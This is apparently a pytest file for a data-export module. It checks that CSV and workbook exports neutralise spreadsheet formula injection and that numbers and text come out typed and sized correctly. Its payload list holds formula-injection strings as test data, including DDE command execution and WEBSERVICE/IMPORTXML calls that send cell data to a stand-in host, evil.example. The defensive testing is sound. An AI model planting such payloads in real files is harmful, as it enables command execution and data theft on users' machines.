"""What a document says never becomes a formula, in any file."""

import csv
import io

import pytest
from openpyxl import load_workbook

from api.exports.cells import harmless, typed, xml_text
from api.exports.tables import csv_pieces
from api.exports.workbook import write_workbook

CELLS = [
    # value, cell of a CSV file
    ("=1+1", "'=1+1"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("-2+3", "'-2+3"),
    ("\t=1", "'\t=1"),
    ("+", "+"),  # a comparator, not a formula
    (-5, "-5"),
    (5.0, "5"),
    (None, ""),
    (["a", "b"], "a, b"),
    (["=a", "b"], "'=a, b"),
    ({"k": 1}, "k=1"),
    ("一、加强领导", "一、加强领导"),
    ("——附件", "——附件"),  # a dash of Chinese text is no minus
]
PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example","看")',
    "+1+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    " =1+1",
    "\u3000=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    '";=1+1',
    "a;=1+1",
    'a",=1+1,"',
    "a\t=1+1",
    '=WEBSERVICE(CONCATENATE("http://evil.example/",A1))',
    '=IMPORTXML("http://evil.example","//a")',
    "==1+1",
    "-5",
]


@pytest.mark.parametrize(("value", "shown"), CELLS)
def test_a_cell_is_no_formula(value: object, shown: str) -> None:
    assert harmless(value) == shown


@pytest.mark.parametrize("words", PAYLOADS)
def test_words_are_no_formula_in_csv(words: str) -> None:
    written = b"".join(csv_pieces(("a", "b"), [{"a": words, "b": -5}], bom=True)).decode("utf-8-sig")
    for delimiter in ",;\t":  # whichever the program that opens it was set to
        for line in csv.reader(io.StringIO(written, newline=""), delimiter=delimiter):
            for cell in line:
                bare = cell.lstrip(" \u3000\ufeff")
                assert (
                    len(bare) < 2
                    or bare[0] not in "=+-@\t\r\n＝＋－＠"
                    or bare.startswith(("-5,", "-5;"))
                    or bare == "-5"
                )
    assert next(iter(csv.reader(io.StringIO(written))))[:2] == ["a", "b"]


@pytest.mark.parametrize("words", PAYLOADS)
def test_words_are_no_formula_in_a_workbook(words: str) -> None:
    file = io.BytesIO()
    write_workbook(file, ("a", "b"), [{"a": words, "b": -5}], [("question", words)])
    book = load_workbook(io.BytesIO(file.getvalue()))
    a, b = book["rows"][2]
    assert (a.data_type, b.data_type, b.value) == ("s", "n", -5)
    assert a.value is not None
    assert a.value.replace("\r", "\n").strip() == words.replace("\r", "\n").strip()
    assert book["about"]["B1"].data_type == "s"
    if not words.startswith(("a", '"')):
        assert a.quotePrefix, "it stays text when it is edited"


TYPED: list[tuple[object, object]] = [
    # value, value of a workbook's cell
    (3, 3),
    (2.5, 2.5),
    (3.0, 3),
    (True, True),
    (2**60, str(2**60)),  # a spreadsheet would lose digits
    (float("nan"), "nan"),
    (None, None),
    ("", None),
    ([], None),
    ("a\x00b\x0bc\ufffe", "abc"),
    ("字" * 40_000, "字" * 31_999 + "…"),
]


@pytest.mark.parametrize(("value", "kept"), TYPED)
def test_numbers_stay_numbers_and_texts_fit(value: object, kept: object) -> None:
    assert typed(value) == kept
    assert type(typed(value)) is type(kept)


def test_xml_can_hold_what_is_left() -> None:
    assert xml_text("条目\x08 \ud800𠮷\n") == "条目 𠮷\n"
